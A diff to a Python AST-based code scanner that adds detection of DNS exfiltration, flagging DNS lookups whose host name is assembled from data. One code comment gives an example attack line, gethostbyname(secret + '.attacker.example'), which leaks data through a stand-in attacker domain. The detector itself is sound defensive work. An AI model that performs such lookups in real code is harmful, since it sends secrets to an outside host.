@@ -205,6 +205,9 @@ class _AstCollector(ast.NodeVisitor):
             if self.qualify(arg) in ENVIRON_NAMES:
                 self.out.add("env_dump", line, self.scope, "os.environ", col)
         label = qualified or simple or "<call>"
+        if "dns" in caps and node.args and _built_name(node.args[0]):
+            # gethostbyname(secret + ".attacker.example"): data leaves in the query name.
+            caps.add("dns_exfil")
         for cap in caps:
             self.out.add(cap, line, self.scope, label, col)
         for kind in sink_kinds(caps):
@@ -274,6 +277,17 @@ class _AstCollector(ast.NodeVisitor):
                     for assigned in self.assignments.get((MODULE, sub.id), [])[:4]:
                         found |= self._sources(assigned, MODULE, depth + 1)
         return found
+
+
+def _built_name(node: ast.expr) -> bool:
+    """A host name assembled from data: concatenation, f-string, .format() or .join()."""
+    if isinstance(node, (ast.BinOp, ast.JoinedStr)):
+        return True
+    return (
+        isinstance(node, ast.Call)
+        and isinstance(node.func, ast.Attribute)
+        and node.func.attr in ("format", "join")
+    )
 
 
 def _mentions_chr(node: ast.expr) -> bool:
